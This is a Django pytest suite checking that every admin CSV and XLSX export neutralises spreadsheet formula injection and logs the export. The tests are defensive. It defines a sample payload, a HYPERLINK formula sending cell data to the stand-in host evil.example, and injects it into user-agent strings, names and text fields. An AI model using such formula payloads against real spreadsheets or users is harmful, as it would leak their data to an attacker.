"""Every admin export is safe to open in a spreadsheet, and recorded.

The list of exports comes from the URL resolver, so an export added later is
tested without anyone remembering to: it fails here until it uses
audit.exports.SafeExportIndexView and has a row builder below.
https://owasp.org/www-community/attacks/CSV_Injection
"""

import csv
import inspect
import io
import json
from datetime import timedelta

import pytest
from django.core.exceptions import FieldDoesNotExist
from django.db import connection, models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail_modeladmin.options import ModelAdmin

from accounts.models import Role
from audit.exports import FORMULA_PREFIXES, SafeExportIndexView
from audit.models import AuditEvent
from meetings.models import Action, Attendance, AttendanceStatus
from tests.conftest import append_only_triggers_suspended, verified_client_for
from tests.factories import OrganisationFactory, UserFactory
from tests.factories.agreements import agreement_tree
from tests.factories.meetings import accepted, meeting, on_agenda
from tests.factories.referrals import submitted_referral

pytestmark = pytest.mark.django_db

LOGIN = reverse("accounts:login")
# What a partner, or anyone at the sign-in page, might type: each would run as
# a formula (and this one would send the spreadsheet's data away).
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"Click")'


def hostile(n: int, max_length: int | None = None, suffix: str = "") -> str:
    value = FORMULA_PREFIXES[n % 4] + PAYLOAD
    if max_length:
        value = value[: max_length - len(suffix)]
    return value + suffix


def exporting_admins() -> dict[str, ModelAdmin]:
    """Every registered modeladmin with an export, by model label."""
    found = {}

    def walk(patterns):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns)
            elif isinstance(entry, URLPattern) and (entry.name or "").endswith(
                "_modeladmin_index"
            ):
                admin = getattr(inspect.unwrap(entry.callback), "__self__", None)
                if isinstance(admin, ModelAdmin) and admin.list_export:
                    found[admin.model._meta.label_lower] = admin

    walk(get_resolver().url_patterns)
    return found


# One visible row per exported model, made as the portal makes them. Text
# typed by people is then set to formulas below, field by field.


def _referral(viewer):
    submitted_referral()


def _meeting(viewer):
    meeting(viewer)


def _action(viewer):
    item = on_agenda(
        meeting(viewer),
        accepted(submitted_referral(), by=viewer),
        [OrganisationFactory()],
        by=viewer,
    )
    Action.objects.create(
        agenda_item=item,
        referral=item.referral,
        owner=item.invited.first(),
        officer="Jo Officer",
        description="Fit a door chain.",
        due=timezone.localdate() + timedelta(days=5),
    )


def _attendance(viewer):
    Attendance.objects.create(
        meeting=meeting(viewer),
        organisation=OrganisationFactory(),
        name="Kit Attendee",
        status=AttendanceStatus.PRESENT,
    )


def _organisation(viewer):
    OrganisationFactory()


def _agreement_version(viewer):
    agreement_tree(coordinator=viewer)


def _audit_event(viewer):
    # The finding: an unauthenticated failed sign-in with a formula for a
    # browser name.
    Client(HTTP_USER_AGENT=hostile(0)).post(
        LOGIN, {"username": "nobody", "password": "wrong-wrong"}
    )


ROW_BUILDERS = {
    "referrals.referral": _referral,
    "meetings.meeting": _meeting,
    "meetings.action": _action,
    "meetings.attendance": _attendance,
    "accounts.organisation": _organisation,
    "agreements.agreementversion": _agreement_version,
    "audit.auditevent": _audit_event,
}


def text_fields(model, names) -> list[models.Field]:
    """The exported columns that are the model's own text fields."""
    fields = []
    for name in names:
        try:
            field = model._meta.get_field(name)
        except FieldDoesNotExist:  # a method or property, built from fields
            field = None
        if isinstance(field, models.CharField | models.TextField):
            fields.append(field)
    return fields


def names_and_places_hostile(viewer) -> None:
    """What exports show of related records: organisation and people's names."""
    from accounts.models import Organisation, User

    for pk in Organisation.objects.values_list("pk", flat=True):
        Organisation.objects.filter(pk=pk).update(name=hostile(1, suffix=f" {pk}"))
    User.objects.exclude(pk=viewer.pk).update(first_name=hostile(2), last_name="")


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response) -> list:
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(content))
    return [cell for row in workbook.active.iter_rows() for cell in row]


@pytest.fixture
def viewer():
    """Someone who may open every list: an administrator and coordinator."""
    return UserFactory(is_superuser=True, roles=[Role.COORDINATOR])


class TestEveryExportIsSpreadsheetSafe:
    def test_every_export_is_found_and_has_a_row_builder(self):
        admins = exporting_admins()
        assert "audit.auditevent" in admins and "referrals.referral" in admins
        assert set(admins) == set(ROW_BUILDERS)

    @pytest.mark.parametrize("label", sorted(ROW_BUILDERS))
    def test_uses_the_shared_safe_export(self, label):
        admin = exporting_admins()[label]
        assert issubclass(admin.index_view_class, SafeExportIndexView)

    @pytest.mark.parametrize("label", sorted(ROW_BUILDERS))
    def test_formulas_in_every_text_column_are_neutralised(self, label, viewer):
        admin = exporting_admins()[label]
        ROW_BUILDERS[label](viewer)
        model = admin.model
        fields = text_fields(model, admin.list_export)
        if connection.vendor == "postgresql":
            # PostgreSQL will not alter a table (to suspend its triggers) with
            # foreign key checks still pending from the rows just made.
            with connection.cursor() as cursor:
                cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        with append_only_triggers_suspended():  # audit events, agreement versions
            for pk in model.objects.values_list("pk", flat=True):
                # Each row's own values: some of these columns are unique.
                model.objects.filter(pk=pk).update(
                    **{
                        f.name: hostile(n, f.max_length, suffix=str(pk))
                        for n, f in enumerate(fields)
                    }
                )
        names_and_places_hostile(viewer)
        client = verified_client_for(viewer)
        url = reverse(admin.url_helper.get_action_url_name("index"))

        header, *rows = csv_cells(client.get(url, {"export": "csv"}))
        assert rows, f"{label}: the export has no rows to check"
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], label
        # The formulas did reach the export, disarmed by a leading quote.
        neutralised = [c for c in cells if c.startswith("'") and PAYLOAD[:8] in c]
        assert neutralised, f"{label}: no hostile text reached the export"
        assert AuditEvent.objects.filter(action__endswith="exported").exists()

        cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
        assert not [c.value for c in cells if c.data_type == "f"], label
        assert [c for c in cells if isinstance(c.value, str) and PAYLOAD[:8] in c.value]


class TestAuditLogExport:
    """The finding itself: the audit log's export, of what strangers typed."""

    @pytest.fixture
    def hostile_events(self, viewer):
        UserFactory(username="@SUM1")  # valid: letters, digits and @.+-_
        Client(HTTP_USER_AGENT=hostile(0)).post(
            LOGIN, {"username": "@SUM1", "password": "wrong-wrong"}
        )
        from audit.services import audit_record

        audit_record(action="search", actor=viewer, detail={"reason": hostile(3)})

    def test_csv(self, viewer, hostile_events):
        client = verified_client_for(viewer)
        header, *rows = csv_cells(
            client.get("/admin/audit/auditevent/", {"export": "csv"})
        )
        cells = [cell for row in rows for cell in row]
        assert hostile(0) not in cells
        assert "'" + hostile(0) in cells  # the user agent, disarmed
        assert "'@SUM1" in cells  # the username tried
        assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
        column = dict(zip(header, zip(*rows, strict=True), strict=True))
        assert {"reason": hostile(3)} in [
            json.loads(cell) for cell in column["Detail"] if cell
        ]
        assert AuditEvent.objects.filter(action="audit.log_exported").count() == 1

    def test_xlsx(self, viewer, hostile_events):
        client = verified_client_for(viewer)
        cells = xlsx_cells(client.get("/admin/audit/auditevent/", {"export": "xlsx"}))
        agent = [c for c in cells if c.value == hostile(0)]
        assert agent and all(c.data_type == "s" for c in agent)
        assert not [c.value for c in cells if c.data_type == "f"]
